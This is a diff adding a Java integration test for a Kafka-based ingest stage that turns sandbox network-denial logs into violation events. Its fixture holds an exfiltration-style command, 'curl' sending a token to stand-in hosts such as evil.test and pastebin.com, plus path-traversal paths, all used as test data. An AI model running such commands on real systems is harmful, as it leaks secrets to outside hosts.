@@ -1,0 +1,284 @@
+package dev.knockwatch.ingest;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.knockwatch.broker.EmbeddedKafkaBroker;
+import dev.knockwatch.events.Json;
+import dev.knockwatch.events.RejectedLine;
+import dev.knockwatch.events.Topics;
+import dev.knockwatch.events.ViolationEvent;
+import dev.knockwatch.testkit.EmbeddedKafkaExtension;
+import dev.knockwatch.testkit.TopicReader;
+import java.io.IOException;
+import java.io.InputStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Clock;
+import java.time.Duration;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.Comparator;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.concurrent.TimeUnit;
+import java.util.stream.Collectors;
+import org.apache.kafka.clients.admin.Admin;
+import org.apache.kafka.clients.admin.AdminClientConfig;
+import org.apache.kafka.clients.admin.NewTopic;
+import org.apache.kafka.clients.consumer.ConsumerRecord;
+import org.apache.kafka.clients.producer.KafkaProducer;
+import org.apache.kafka.clients.producer.ProducerConfig;
+import org.apache.kafka.clients.producer.ProducerRecord;
+import org.apache.kafka.common.serialization.StringSerializer;
+import org.junit.jupiter.api.Tag;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * {@code ingest --raw-topic}'s stage against a real broker: the lines of the layout's files, as a
+ * shipper carries them, give the events the agent gives; a line delivered twice keeps its id; a
+ * path outside the layout and a record that is no raw line are rejected with their reasons; and a
+ * kill -9 of the stage mid-stream loses nothing and counts nothing twice.
+ */
+@Tag("integration")
+@ExtendWith(EmbeddedKafkaExtension.class)
+class RawTopicIngestTest {
+
+  @TempDir Path logs;
+
+  static String srtRecord(String commandId, String host, int i) {
+    return "{\"line\":\"deny network-outbound " + host + ":443 (host is not on the allow list)\","
+        + "\"commandId\":\"" + commandId + "\",\"command\":\"curl -s https://" + host + "/?token=SECRET&i=" + i + "\","
+        + "\"timestamp\":\"2026-12-04T00:00:0" + (i % 10) + ".000Z\"}";
+  }
+
+  static void createTopic(EmbeddedKafkaBroker broker, String topic) throws Exception {
+    try (Admin admin = Admin.create(Map.of(AdminClientConfig.BOOTSTRAP_SERVERS_CONFIG, broker.bootstrapServers()))) {
+      admin.createTopics(List.of(new NewTopic(topic, 3, (short) 1))).all().get(30, TimeUnit.SECONDS);
+    }
+  }
+
+  static KafkaProducer<String, String> shipper(EmbeddedKafkaBroker broker) {
+    return new KafkaProducer<>(Map.of(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, broker.bootstrapServers(),
+        ProducerConfig.LINGER_MS_CONFIG, 5), new StringSerializer(), new StringSerializer());
+  }
+
+  /** Every line of {@code file} as a shipper with offsets sends it (Vector's shape), keyed by its path. */
+  static void ship(KafkaProducer<String, String> shipper, String topic, Path file, String host) throws IOException {
+    byte[] bytes = Files.readAllBytes(file);
+    String path = file.toAbsolutePath().toString();
+    int start = 0;
+    for (int i = 0; i <= bytes.length; i++) {
+      if (i == bytes.length || bytes[i] == '\n') {
+        if (i > start || i < bytes.length) {
+          String line = new String(bytes, start, i - start, StandardCharsets.UTF_8);
+          if (line.endsWith("\r")) {
+            line = line.substring(0, line.length() - 1);
+          }
+          if (!(i == bytes.length && line.isEmpty())) {
+            shipper.send(new ProducerRecord<>(topic, path, "{\"message\":" + Hostile.json(line) + ",\"file\":"
+                + Hostile.json(path) + ",\"host\":\"" + host + "\",\"offset\":" + start + "}"));
+          }
+        }
+        start = i + 1;
+      }
+    }
+    shipper.flush();
+  }
+
+  static RawTopicIngest stage(EmbeddedKafkaBroker broker, String topic, String id, Path root) {
+    return new RawTopicIngest(broker.bootstrapServers(), Map.of(), topic, "raw-test-" + id, "raw-test-tx-" + id,
+        root.toAbsolutePath().toString(), Clock.systemUTC());
+  }
+
+  /** What an event says, but its id and the times ingest read it (the agent and the stage read at other times). */
+  static String said(ViolationEvent e) {
+    return String.join("|", e.commandId(), String.valueOf(e.agentId()), String.valueOf(e.source()),
+        String.valueOf(e.host()), String.valueOf(e.port()), String.valueOf(e.path()), String.valueOf(e.reason()),
+        // a line's own time; one without takes the ingest clock's (the time source says which)
+        e.timeSource() == null ? String.valueOf(e.observedAt()) : e.timeSource(), String.valueOf(e.commandText()), e.origin().file() + ":" + e.origin().offset(),
+        String.valueOf(e.origin().ingestHost()), String.valueOf(e.identityConflict()));
+  }
+
+  void copy(String resource, Path to) throws IOException {
+    Files.createDirectories(to.getParent());
+    try (InputStream in = getClass().getResourceAsStream(resource)) {
+      Files.copy(in, to);
+    }
+  }
+
+  @Test
+  void theLinesAShipperCarriesGiveTheEventsTheAgentGivesForTheSameFiles(EmbeddedKafkaBroker broker) throws Exception {
+    String srt = "RawSameAsAgent00000001";
+    String curl = "RawSameAsAgent00000002";
+    String strace = "RawSameAsAgent00000003";
+    Path dir = Files.createDirectories(logs.resolve("raw-agent"));
+    Files.writeString(dir.resolve(srt + ".violations.jsonl"), srtRecord(srt, "evil.test", 1) + "\n"
+        + srtRecord(srt, "pastebin.com", 2) + "\n" + "not json at all\n" + srtRecord("short", "x.test", 3) + "\n");
+    copy("/fixtures/srt-0.0.83/transcripts/b-https-connect-curl-v.txt", dir.resolve(curl + ".stderr.log"));
+    copy("/fixtures/srt-0.0.83/strace/strace-g4-in-srt-fs-denials.txt", dir.resolve(strace + ".strace"));
+    Set<String> ids = Set.of(srt, curl, strace);
+
+    ListSink agentSink = new ListSink();
+    IngestAgent agent = LogLayout.forLogDirectory(logs, p -> true, null, agentSink, "host-a", Duration.ZERO).wholeFiles();
+    while (agent.pollOnce() > 0) {
+      // every file, to its end
+    }
+    List<String> byAgent = agentSink.events.stream().filter(e -> ids.contains(e.commandId()))
+        .map(RawTopicIngestTest::said).sorted().toList();
+    assertThat(byAgent).hasSizeGreaterThan(3);
+    assertThat(agentSink.rejected).extracting(RejectedLine::code).containsExactly("unparseable");
+
+    String topic = "raw-same-as-agent";
+    createTopic(broker, topic);
+    try (KafkaProducer<String, String> shipper = shipper(broker)) {
+      for (Path f : Files.list(dir).sorted().toList()) {
+        ship(shipper, topic, f, "host-a");
+      }
+    }
+    try (RawTopicIngest stage = stage(broker, topic, "same", logs)) {
+      Thread t = new Thread(stage, "raw-test");
+      t.start();
+      List<ConsumerRecord<String, ViolationEvent>> got = TopicReader.readUntil(broker, Topics.VIOLATIONS.name(),
+          Json.serde(ViolationEvent.class).deserializer(), r -> ids.contains(r.key()), byAgent.size());
+      List<String> byStage = got.stream().map(r -> said(r.value())).sorted().toList();
+      assertThat(byStage).isEqualTo(byAgent);
+      assertThat(got).allSatisfy(r -> assertThat(String.valueOf(r.value().commandText())).doesNotContain("SECRET"));
+      List<ConsumerRecord<String, RejectedLine>> rejected = TopicReader.readUntil(broker, Topics.REJECTED.name(),
+          Json.serde(RejectedLine.class).deserializer(), r -> r.key().startsWith("raw-agent/" + srt), 1);
+      assertThat(rejected).extracting(r -> r.value().code()).containsExactly("unparseable");
+      assertThat(rejected).extracting(r -> r.value().ingestHost()).containsOnly("host-a");
+    }
+  }
+
+  @Test
+  void aLineDeliveredTwiceKeepsItsIdAndWhatIsNoRawLineOfTheLayoutIsRejectedWithWhy(EmbeddedKafkaBroker broker)
+      throws Exception {
+    String id = "RawTwiceAndOutside0001";
+    String topic = "raw-twice-outside";
+    createTopic(broker, topic);
+    Path root = logs.resolve("root");
+    String path = root.toAbsolutePath() + "/agent-t/" + id + ".violations.jsonl";
+    String line = srtRecord(id, "evil.test", 1);
+    String ok = "{\"msg\":" + Hostile.json(line) + ",\"filename\":\"" + path + "\",\"fileoffset\":\"0\",\"hostname\":\"h1\"}";
+    // without an offset (syslog-ng) the line's content makes the id
+    String noOffset = "{\"MESSAGE\":" + Hostile.json(srtRecord(id, "bit.ly", 2)) + ",\"FILE_NAME\":\"" + path
+        + "\",\"HOST\":\"h1\"}";
+    String escapes = "{\"line\":" + Hostile.json(srtRecord(id, "evil.test", 3)) + ",\"path\":\"" + root.toAbsolutePath()
+        + "/agent-t/../agent-other/" + id + ".violations.jsonl\",\"offset\":5}";
+    String elsewhere = "{\"line\":" + Hostile.json(srtRecord(id, "evil.test", 4)) + ",\"path\":\"/etc/" + id
+        + ".violations.jsonl\",\"offset\":6}";
+    try (KafkaProducer<String, String> shipper = shipper(broker)) {
+      for (String v : List.of(ok, ok, noOffset, noOffset, escapes, elsewhere, "not json")) {
+        shipper.send(new ProducerRecord<>(topic, path, v));
+      }
+    }
+    try (RawTopicIngest stage = stage(broker, topic, "twice", root)) {
+      new Thread(stage, "raw-test").start();
+      List<ConsumerRecord<String, ViolationEvent>> got = TopicReader.readUntil(broker, Topics.VIOLATIONS.name(),
+          Json.serde(ViolationEvent.class).deserializer(), r -> id.equals(r.key()), 4);
+      assertThat(got).hasSize(4);
+      Map<String, Long> byId = got.stream().collect(Collectors.groupingBy(r -> r.value().eventId(), Collectors.counting()));
+      assertThat(byId.values()).containsExactly(2L, 2L); // each line twice, under one id each time
+      assertThat(got).extracting(r -> r.value().agentId()).containsOnly("agent-t");
+      assertThat(got).extracting(r -> r.value().host()).containsOnly("evil.test", "bit.ly");
+      List<ConsumerRecord<String, RejectedLine>> rejected = TopicReader.readUntil(broker, Topics.REJECTED.name(),
+          Json.serde(RejectedLine.class).deserializer(), r -> r.value().reason() != null
+              && (r.value().line() != null && r.value().line().contains(id) || r.key().startsWith("raw:" + topic)), 3);
+      assertThat(rejected).extracting(r -> r.value().code())
+          .containsExactlyInAnyOrder("outside-layout", "outside-layout", "raw-record");
+      assertThat(rejected).filteredOn(r -> r.value().code().equals("raw-record"))
+          .extracting(r -> r.value().reason()).containsExactly("the value is not JSON");
+      // nothing of a path outside the layout is taken for an agent or a command
+      assertThat(got).noneMatch(r -> "agent-other".equals(r.value().agentId()));
+    }
+  }
+
+  @Test
+  void aKillNineOfTheStageMidStreamLosesNothingAndCountsNothingTwice(EmbeddedKafkaBroker broker) throws Exception {
+    String topic = "raw-kill-nine";
+    createTopic(broker, topic);
+    Path root = logs.resolve("k9");
+    int commands = 20;
+    int perWave = 200;
+    int waves = 30;
+    List<String> ids = new ArrayList<>();
+    for (int c = 0; c < commands; c++) {
+      ids.add(String.format("RawKillNine%011d", c));
+    }
+    Set<String> idSet = Set.copyOf(ids);
+    long[] offsets = new long[commands];
+    Thread shipping;
+    Process first = child(broker, topic, root);
+    Process second = null;
+    try (KafkaProducer<String, String> shipper = shipper(broker)) {
+      shipping = new Thread(() -> {
+        for (int w = 0; w < waves; w++) {
+          for (int i = 0; i < perWave; i++) {
+            int c = i % commands;
+            String line = srtRecord(ids.get(c), "w" + w + ".evil.test", i);
+            String path = root.toAbsolutePath() + "/agent-k/" + ids.get(c) + ".violations.jsonl";
+            shipper.send(new ProducerRecord<>(topic, path, "{\"line\":" + Hostile.json(line) + ",\"path\":\"" + path
+                + "\",\"host\":\"h9\",\"offset\":" + offsets[c] + "}"));
+            offsets[c] += line.getBytes(StandardCharsets.UTF_8).length + 1;
+          }
+          shipper.flush();
+          try {
+            Thread.sleep(100);
+          } catch (InterruptedException e) {
+            return;
+          }
+        }
+      });
+      shipping.start();
+      // some transactions committed, the stream still going: kill -9
+      long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(60);
+      while (count(broker, idSet) < perWave && System.nanoTime() < deadline) {
+        Thread.sleep(50);
+      }
+      first.destroyForcibly().waitFor(30, TimeUnit.SECONDS);
+      long atKill = count(broker, idSet);
+      assertThat(atKill).as("committed before the kill").isPositive().isLessThan((long) perWave * waves);
+      second = child(broker, topic, root);
+      shipping.join();
+    }
+    int all = perWave * waves;
+    List<ConsumerRecord<String, ViolationEvent>> got = TopicReader.readUntil(broker, Topics.VIOLATIONS.name(),
+        Json.serde(ViolationEvent.class).deserializer(), r -> idSet.contains(r.key()), all);
+    Thread.sleep(1_000); // anything sent twice has time to be committed
+    got = TopicReader.readToEnd(broker, Topics.VIOLATIONS.name(), Json.serde(ViolationEvent.class).deserializer(),
+        r -> idSet.contains(r.key()));
+    second.destroyForcibly().waitFor(30, TimeUnit.SECONDS);
+    Set<String> eventIds = got.stream().map(r -> r.value().eventId()).collect(Collectors.toSet());
+    assertThat(eventIds).as("every line once").hasSize(all);
+    assertThat(got).as("nothing twice").hasSize(all);
+    // one command's lines in their order
+    List<Long> firstCommand = got.stream().filter(r -> r.key().equals(ids.get(0)))
+        .map(r -> r.value().origin().offset()).toList();
+    assertThat(firstCommand).isSortedAccordingTo(Comparator.naturalOrder());
+  }
+
+  static long count(EmbeddedKafkaBroker broker, Set<String> ids) {
+    return TopicReader.readToEnd(broker, Topics.VIOLATIONS.name(), Json.serde(ViolationEvent.class).deserializer(),
+        r -> ids.contains(r.key())).size();
+  }
+
+  /** The stage in a JVM of its own, as a deployment runs it: one transactional id, so a restart fences the killed one. */
+  static Process child(EmbeddedKafkaBroker broker, String topic, Path root) throws IOException {
+    String java = Path.of(System.getProperty("java.home"), "bin", "java").toString();
+    return new ProcessBuilder(java, "-Xmx256m", "-cp", System.getProperty("java.class.path"),
+        RawStageMain.class.getName(), broker.bootstrapServers(), topic, "raw-test-k9", "raw-test-tx-k9",
+        root.toAbsolutePath().toString())
+        .redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
+  }
+
+  /** What {@link #child} runs. */
+  public static final class RawStageMain {
+    public static void main(String[] args) {
+      new RawTopicIngest(args[0], Map.of(), args[1], args[2], args[3], args[4], Clock.systemUTC()).run();
+    }
+  }
+}
